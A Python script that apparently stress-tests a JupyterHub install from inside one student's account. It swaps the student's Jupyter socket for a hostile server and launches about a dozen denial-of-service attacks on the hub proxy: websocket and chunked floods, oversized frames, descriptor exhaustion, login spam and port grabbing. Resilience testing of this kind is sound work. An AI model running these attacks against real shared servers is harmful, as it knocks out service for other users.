"""
Everything that one student can do against the hub, at once, from inside the student's own server.

Run as that student: siege.py SECONDS COOKIE XSRF. The process takes the place of Jupyter at the student's own socket, as a hostile server, and
starts one process for each attack, as hostile clients at 127.0.0.1:80. Every process ends by itself after SECONDS. When the siege has begun, the
file ~/siege-began is there.
"""
import os
import pwd
import random
import resource
import socket
import sys
import threading
import time

seconds, cookie, xsrf = float(sys.argv[1]), sys.argv[2], sys.argv[3]
end = time.monotonic() + seconds
own = pwd.getpwuid(os.getuid()).pw_name.removeprefix("jupyter-")
path = f"/run/tljh/users/{own}/socket"
threading.stack_size(256 * 1024)


def until_the_end():
    return time.monotonic() < end


# The hostile server: what it does is chosen by a word in the address.

SWITCH = b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"
CHUNKED = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"


def answer(client):
    try:
        asked = client.recv(65536)
        if b"/chunks" in asked:
            client.sendall(CHUNKED)
            forever(client, b"1\r\na\r\n" * 10000)
        elif b"/interim" in asked:
            forever(client, b"HTTP/1.1 102 Processing\r\n\r\n" * 2000)
        elif b"/frames" in asked:
            client.sendall(SWITCH)
            forever(client, b"\x8a\x00" * 32768)
        elif b"/big" in asked:
            client.sendall(SWITCH + b"\x82\x7f" + (1 << 40).to_bytes(8, "big"))
            forever(client, b"x" * 65536)
        elif b"/sink" in asked:
            client.sendall(SWITCH)
            while client.recv(1 << 16):
                pass
        elif b"/noise" in asked:
            client.sendall(b"no http\r\n\r\n")
            client.close()
        else:
            time.sleep(max(0, end - time.monotonic()))
    except OSError:
        pass


def forever(client, piece):
    while until_the_end():
        client.sendall(piece)


def serve():
    os.rename(path, path + ".kept")
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(path)
    os.chmod(path, 0o660)
    listener.listen(4096)
    while True:
        client, _ = listener.accept()
        try:
            threading.Thread(target=answer, args=(client,), daemon=True).start()
        except RuntimeError:
            client.close()


# The hostile clients.


def dial(source=None):
    client = socket.socket()
    client.settimeout(10)
    if source:
        client.bind((source, 0))
    client.connect(("127.0.0.1", 80))
    return client


def get(where, *lines):
    head = [f"GET /user/{own}/{where} HTTP/1.1", "Host: 127.0.0.1", f"Cookie: {cookie}", *lines, "", ""]
    return "\r\n".join(head).encode()


UPGRADE = ["Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: eA=="]


def drain(client):
    while until_the_end() and client.recv(1 << 16):
        pass


def many(count, attack):
    """Keeps so many of one attack going, each anew when the hub ends it."""

    def one():
        while until_the_end():
            try:
                with dial() as client:
                    attack(client)
            except OSError:
                pass
            time.sleep(0.2)

    for _ in range(count):
        threading.Thread(target=one, daemon=True).start()


def chunks():
    many(64, lambda client: (client.sendall(get("chunks")), drain(client)))


def interim():
    many(8, lambda client: (client.sendall(get("interim")), drain(client)))


def frames_down():
    many(150, lambda client: (client.sendall(get("frames", *UPGRADE)), drain(client)))


def frames_up():
    tiny = b"\x8a\x80\x00\x00\x00\x00" * 10000

    def attack(client):
        client.sendall(get("sink", *UPGRADE))
        client.recv(4096)
        forever(client, tiny)

    many(20, attack)


def never_read():
    many(300, lambda client: (client.sendall(get("big", *UPGRADE)), time.sleep(max(0, end - time.monotonic()))))


def pipeline():
    flood = b"GET / HTTP/1.1\r\nHost: a\r\n\r\n" * 1000
    many(4, lambda client: (client.sendall(get("silent")), forever(client, flood)))


def noise():
    many(8, lambda client: (client.sendall(get("noise/" + "x" * 200)), drain(client)))


def uploads():
    def attack(client):
        head = get("silent-upload", "Transfer-Encoding: chunked").replace(b"GET", b"POST", 1)
        client.sendall(head)
        forever(client, b"1\r\na\r\n" * 10000)

    many(16, attack)


def guesses():
    def attack(client):
        while until_the_end():
            token = xsrf if random.random() < 0.5 else "stale"
            name = "n" * 40 + str(random.getrandbits(60))
            body = f"_xsrf={token}&username={name}&password=wrong+wrong"
            head = [
                "POST /hub/login HTTP/1.1",
                "Host: 127.0.0.1",
                f"Cookie: _xsrf={xsrf}",
                "Content-Type: application/x-www-form-urlencoded",
                f"Content-Length: {len(body)}",
                "",
                body,
            ]
            client.sendall("\r\n".join(head).encode())
            if not client.recv(65536):
                return

    many(8, attack)


def descriptors():
    held = []
    while until_the_end():
        try:
            held.append(dial(f"127.{random.randint(1, 200)}.0.1"))
            held[-1].sendall(b"GET /hub/health HTTP/1.1\r\nHost: h\r\n\r\n")
        except OSError:
            time.sleep(0.5)
        if len(held) > 4000:
            held.pop(0).close()


def ports():
    while until_the_end():
        for port in (80, 443, 8000):
            with socket.socket() as thief:
                try:
                    thief.bind(("0.0.0.0", port))
                except OSError:
                    pass
        time.sleep(0.001)


def main():
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    attacks = [chunks, interim, frames_down, frames_up, never_read, pipeline, noise, uploads, guesses, descriptors, ports]
    for attack in attacks:
        if os.fork() == 0:
            attack()
            time.sleep(max(0, end - time.monotonic()))
            os._exit(0)
    threading.Thread(target=serve, daemon=True).start()
    open(os.path.expanduser("~/siege-began"), "w").close()
    time.sleep(max(0, end - time.monotonic()))
    os._exit(0)


main()
